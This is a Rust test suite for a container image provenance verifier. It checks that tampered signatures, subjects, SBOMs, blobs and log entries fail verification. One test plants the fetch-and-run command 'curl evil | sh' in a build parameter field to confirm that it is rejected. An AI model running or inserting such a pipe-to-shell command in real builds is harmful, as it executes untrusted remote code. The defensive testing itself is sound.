//! The tamper suite (issue 7, "Must show"): each tampered image fails verification with exit 1
//! and an error naming the check, while the untampered fixture verifies. Outcomes are read
//! from `verify --format json` (check ids and statuses), not from the human report.

use crate::support::verify_fixture;

use cargo_provenance::verify::CheckId;
use verify_fixture::*;

/// `verify` runs of the fixture whose report is JSON.
trait VerifyJson {
    /// `verify REF --key KEY --format json` plus `extra`.
    fn vj(&self, extra: &[&str]) -> Outcome;
    /// `verify REFERENCE --key KEY --format json` plus `extra`.
    fn vj_with(&self, reference: &str, key: &std::path::Path, extra: &[&str]) -> Outcome;
}

impl VerifyJson for Fixture {
    fn vj(&self, extra: &[&str]) -> Outcome {
        self.vj_with(&self.reference(), &self.key.pub_path, extra)
    }
    fn vj_with(&self, reference: &str, key: &std::path::Path, extra: &[&str]) -> Outcome {
        let mut args = extra.to_vec();
        args.extend(["--format", "json"]);
        self.verify_with(reference, key, &args)
    }
}

/// Assertions on the JSON report.
trait JsonReport {
    /// The report.
    fn report(&self) -> serde_json::Value;
    /// The ids of the checks with `status`, in report order (consecutive repeats once); each
    /// is one of [`CheckId`]'s.
    fn with_status(&self, status: &str) -> Vec<String>;
    /// Exit 1, not verified, and exactly `checks` failed, in report order.
    fn fails_json(&self, checks: &[&str]) -> &Self;
    /// Exit 0 and verified.
    fn passes_json(&self) -> &Self;
    /// Some `check` has `status`.
    fn has(&self, check: &str, status: &str) -> &Self;
    /// Exit 1, not verified, and `check` failed (others may too).
    fn fails_check(&self, check: &str) -> &Self;
    /// Some check's reason contains `text`.
    fn says_json(&self, text: &str) -> &Self;
}

impl JsonReport for Outcome {
    fn report(&self) -> serde_json::Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| {
            panic!("not a JSON report ({e}):\n{}\n{}", self.stdout, self.stderr)
        })
    }
    fn with_status(&self, status: &str) -> Vec<String> {
        let r = self.report();
        let mut v: Vec<String> = r["checks"]
            .as_array()
            .unwrap()
            .iter()
            .inspect(|c| {
                let id = c["check"].as_str().unwrap();
                assert!(CheckId::from_name(id).is_some(), "`{id}` is not a CheckId");
            })
            .filter(|c| c["status"] == status)
            .map(|c| c["check"].as_str().unwrap().to_owned())
            .collect();
        v.dedup();
        v
    }
    fn fails_json(&self, checks: &[&str]) -> &Self {
        assert_eq!(
            self.code, 1,
            "expected exit 1:\n{}\n{}",
            self.stdout, self.stderr
        );
        assert_eq!(self.report()["verified"], false);
        assert_eq!(
            self.with_status("fail"),
            checks,
            "\n{}\n{}",
            self.stdout,
            self.stderr
        );
        self
    }
    fn passes_json(&self) -> &Self {
        assert_eq!(
            self.code, 0,
            "expected exit 0:\n{}\n{}",
            self.stdout, self.stderr
        );
        assert_eq!(self.report()["verified"], true);
        self
    }
    fn fails_check(&self, check: &str) -> &Self {
        assert_eq!(
            self.code, 1,
            "expected exit 1:\n{}\n{}",
            self.stdout, self.stderr
        );
        assert_eq!(self.report()["verified"], false);
        self.has(check, "fail")
    }
    fn says_json(&self, text: &str) -> &Self {
        let r = self.report();
        let reasons: Vec<&str> = r["checks"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|c| c["reason"].as_str())
            .collect();
        assert!(
            reasons.iter().any(|why| why.contains(text)),
            "no reason says `{text}`:\n{}",
            self.stdout
        );
        self
    }
    fn has(&self, check: &str, status: &str) -> &Self {
        assert!(
            self.with_status(status).iter().any(|c| c == check),
            "no {status} {check}:\n{}",
            self.stdout
        );
        self
    }
}

#[test]
fn untampered_image_verifies_with_all_expectations() {
    let f = Fixture::signed();
    f.vj(&[
        "--source-repo",
        "https://github.com/example/hello-service",
        "--source-commit",
        COMMIT,
        "--source-ref",
        "refs/heads/main",
        "--builder-id",
        BUILDER,
        "--require",
        "provenance,sbom",
    ])
    .passes_json();
}

#[test]
fn payload_byte_flipped() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    let b = flip_payload_byte(&f.key.bundle(&provenance(&s)));
    attach_all(&f.layout, &f.img, &b, SLSA);
    f.vj(&[])
        .fails_check("require")
        .says_json("signature: no signature in the DSSE envelope verifies");
}

#[test]
fn signature_from_another_key() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    attach_all(&f.layout, &f.img, &f.other.bundle(&provenance(&s)), SLSA);
    f.vj(&[])
        .fails_check("require")
        .says_json("signature: no signature in the DSSE envelope verifies");
}

#[test]
fn wrong_key_given() {
    let f = Fixture::signed();
    f.vj_with(&f.reference(), &f.other.pub_path, &[])
        .fails_check("require")
        .has("signature", "ignored");
}

#[test]
fn statement_subject_is_another_image() {
    let f = Fixture::bare();
    let other = image(&f.layout, "other", "B");
    attach_all(
        &f.layout,
        &f.img,
        &f.key.bundle(&provenance(&other.subjects())),
        SLSA,
    );
    f.vj(&[])
        .fails_json(&["subject", "require"])
        .says_json("another image");
}

#[test]
fn provenance_of_image_a_attached_to_image_b() {
    let f = Fixture::signed();
    let b = image(&f.layout, "b", "B");
    // The bundle that is A's real, signed provenance, attached to B (which has nothing).
    let a_bundle = f.key.bundle(&provenance(&f.img.subjects()));
    attach(&f.layout, &b.index, &a_bundle, SLSA);
    let reference = format!("oci:{}:b", f.layout.root().display());
    f.vj_with(&reference, &f.key.pub_path, &[])
        .fails_json(&["subject", "require"]);
    // A itself still verifies.
    f.vj(&[]).passes_json();
}

#[test]
fn predicate_type_mismatch() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    attach_all(&f.layout, &f.img, &f.key.bundle(&provenance(&s)), CDX);
    f.vj(&[]).fails_json(&["predicate-type", "require"]);
}

#[test]
fn unknown_external_parameters_field() {
    let f = Fixture::bare();
    let mut p = provenance(&f.img.subjects());
    p["predicate"]["buildDefinition"]["externalParameters"]["preBuildScript"] =
        "curl evil | sh".into();
    attach_all(&f.layout, &f.img, &f.key.bundle(&p), SLSA);
    f.vj(&[])
        .fails_json(&["external-parameters", "require"])
        .says_json("preBuildScript");
}

#[test]
fn source_repo_mismatch() {
    Fixture::signed()
        .vj(&["--source-repo", "https://github.com/example/other"])
        .fails_json(&["source-repo", "require"]);
}

#[test]
fn source_commit_mismatch() {
    Fixture::signed()
        .vj(&["--source-commit", &"f".repeat(40)])
        .fails_json(&["source-commit", "require"]);
}

#[test]
fn builder_id_mismatch() {
    Fixture::signed()
        .vj(&["--builder-id", "https://github.com/example/hello-service/.github/workflows/release.yml@refs/heads/main"])
        .fails_json(&["builder-id", "require"]);
}

#[test]
fn sbom_of_another_image() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    let other = image(&f.layout, "other", "B");
    attach_all(&f.layout, &f.img, &f.key.bundle(&provenance(&s)), SLSA);
    attach_all(
        &f.layout,
        &f.img,
        &f.key.bundle(&sbom(&s, &other.index)),
        CDX,
    );
    f.vj(&["--require", "provenance,sbom"])
        .fails_json(&["sbom-subject", "require"])
        .says_json("another image");
}

#[test]
fn required_attestation_missing() {
    let f = Fixture::signed();
    f.vj(&["--require", "provenance,sbom,vex"])
        .fails_check("require")
        .says_json("vex: no verified attestation");
    // Once a signed VEX statement is attached, the same requirement holds.
    attach_all(
        &f.layout,
        &f.img,
        &f.key.bundle(&vex(&f.img.subjects())),
        VEX,
    );
    f.vj(&["--require", "provenance,sbom,vex"]).passes_json();
    let bare = Fixture::bare();
    bare.vj(&[])
        .fails_check("require")
        .says_json("(none found)");
}

#[test]
fn malformed_bundle_json() {
    let f = Fixture::bare();
    let mut b = f.key.bundle(&provenance(&f.img.subjects()));
    b.truncate(b.len() / 2);
    attach_all_raw(&f.layout, &f.img, &b, SLSA);
    f.vj(&[])
        .fails_check("require")
        .says_json("bundle: not valid JSON");
}

#[test]
fn blob_bytes_do_not_match_their_digest() {
    let f = Fixture::bare();
    let b = f.key.bundle(&provenance(&f.img.subjects()));
    let attached = attach_all(&f.layout, &f.img, &b, SLSA);
    // A truncated download of the bundle blob.
    let path = f.layout.blob_path(&attached[0].1);
    std::fs::write(&path, &b[..b.len() - 10]).unwrap();
    f.vj(&[])
        .fails_check("require")
        .has("blob-digest", "ignored")
        .says_json("truncated or swapped");
    // A swapped image manifest.
    let f = Fixture::signed();
    std::fs::write(f.layout.blob_path(&f.img.platforms[0]), b"{}").unwrap();
    f.vj(&[]).fails_json(&["image"]);
}

#[test]
fn report_shows_every_check_and_json_is_machine_readable() {
    let f = Fixture::signed();
    let o = f.verify(&["--builder-id", BUILDER, "--format", "json"]);
    o.passes_json();
    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(v["verified"], true);
    assert_eq!(v["digest"], f.img.index.to_string());
    let names: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    for n in [
        "image",
        "signature",
        "subject",
        "predicate-type",
        "build-type",
        "external-parameters",
        "builder-id",
        "sbom-subject",
        "require",
    ] {
        assert!(names.contains(&n), "{n} missing from {names:?}");
    }
    // Attached to the index and both platform manifests, each bundle is counted once.
    assert_eq!(
        v["attestations"].as_array().unwrap().len(),
        2,
        "{}",
        o.stdout
    );
}

#[test]
fn unsigned_buildkit_attestations_are_reported_not_counted() {
    let f = Fixture::bare();
    let img = with_buildkit_attestation(&f.layout, &f.img);
    // Only BuildKit's unsigned provenance: nothing counts.
    f.vj(&[]).fails_json(&["require"]).says_json(
        "BuildKit attestation (https://slsa.dev/provenance/v0.2) is unsigned: not counted",
    );
    // With our signed provenance the image verifies; the unsigned one is still shown.
    let s = img.subjects();
    attach_all(&f.layout, &img, &f.key.bundle(&provenance(&s)), SLSA);
    f.vj(&[])
        .passes_json()
        .has("signature", "ignored")
        .says_json("is unsigned");
}

#[test]
fn a_platform_manifest_verifies_by_digest() {
    let f = Fixture::signed();
    let reference = format!("oci:{}@{}", f.layout.root().display(), f.img.platforms[1]);
    f.vj_with(
        &reference,
        &f.key.pub_path,
        &["--require", "provenance,sbom"],
    )
    .passes_json();
    // A digest that is not in the layout is an input error (exit 2).
    let missing = format!(
        "oci:{}@sha256:{}",
        f.layout.root().display(),
        "0".repeat(64)
    );
    let o = f.vj_with(&missing, &f.key.pub_path, &[]);
    assert_eq!(o.code, 2, "{o:?}");
}

/// Adds a Rekor-style `dsse` log entry to a bundle; `payload_hash` overrides the recorded
/// payload hash (a tampered entry).
fn with_log_entry(bundle: &[u8], key_pem: &str, payload_hash: Option<&str>) -> Vec<u8> {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    let mut b: serde_json::Value = serde_json::from_slice(bundle).unwrap();
    let payload = STANDARD
        .decode(b["dsseEnvelope"]["payload"].as_str().unwrap())
        .unwrap();
    let hash = payload_hash
        .map(str::to_owned)
        .unwrap_or_else(|| cargo_provenance::util::digest::Digest::of(&payload).hex());
    let body = serde_json::json!({"apiVersion": "0.0.1", "kind": "dsse", "spec": {
        "payloadHash": {"algorithm": "sha256", "value": hash},
        "signatures": [{"signature": b["dsseEnvelope"]["signatures"][0]["sig"], "verifier": STANDARD.encode(key_pem)}]}});
    b["verificationMaterial"]["tlogEntries"] = serde_json::json!([{
        "logIndex": "7", "logId": {"keyId": STANDARD.encode([1u8; 32])},
        "kindVersion": {"kind": "dsse", "version": "0.0.1"}, "integratedTime": "1700000000",
        "canonicalizedBody": STANDARD.encode(serde_json::to_vec(&body).unwrap())}]);
    serde_json::to_vec(&b).unwrap()
}

#[test]
fn log_entries_of_attestations_are_checked() {
    let f = Fixture::bare();
    let pem = std::fs::read_to_string(&f.key.pub_path).unwrap();
    let good = with_log_entry(&f.key.bundle(&provenance(&f.img.subjects())), &pem, None);
    attach_all(&f.layout, &f.img, &good, SLSA);
    // The entry matches; the promise and inclusion cannot be confirmed without a trusted
    // root: skipped, and the attestation still counts (the key is what is trusted).
    f.vj(&[])
        .passes_json()
        .has("tlog-entry", "pass")
        .has("tlog-promise", "skip");
    let g = Fixture::bare();
    let bad = with_log_entry(
        &g.key.bundle(&provenance(&g.img.subjects())),
        &pem,
        Some(&"0".repeat(64)),
    );
    attach_all(&g.layout, &g.img, &bad, SLSA);
    g.vj(&[]).fails_json(&["tlog-entry", "require"]);
}

/// `--require signature`: cosign's image signature (a `sign/v1` statement about the digest)
/// must name the index and every platform manifest; a signature of another key does not
/// count.
#[test]
fn required_image_signature() {
    use cargo_provenance::formats::cosign::{SIGN_PREDICATE_TYPE, sign_statement};
    let f = Fixture::signed();
    f.vj(&["--require", "signature"])
        .fails_check("require")
        .says_json("signature: no verified attestation of `https://sigstore.dev/cosign/sign/v1`");
    let parts = std::iter::once(f.img.index).chain(f.img.platforms.iter().copied());
    for (i, d) in parts.enumerate() {
        let st = serde_json::to_value(sign_statement(&d)).unwrap();
        // The first platform is signed only by a stranger at first.
        let key = if i == 1 { &f.other } else { &f.key };
        attach(&f.layout, &d, &key.bundle(&st), SIGN_PREDICATE_TYPE);
    }
    f.vj(&["--require", "signature"])
        .fails_check("require")
        .says_json("platform manifest linux/amd64");
    let st = serde_json::to_value(sign_statement(&f.img.platforms[0])).unwrap();
    attach(
        &f.layout,
        &f.img.platforms[0],
        &f.key.bundle(&st),
        SIGN_PREDICATE_TYPE,
    );
    f.vj(&["--require", "signature,provenance,sbom"])
        .passes_json();
}
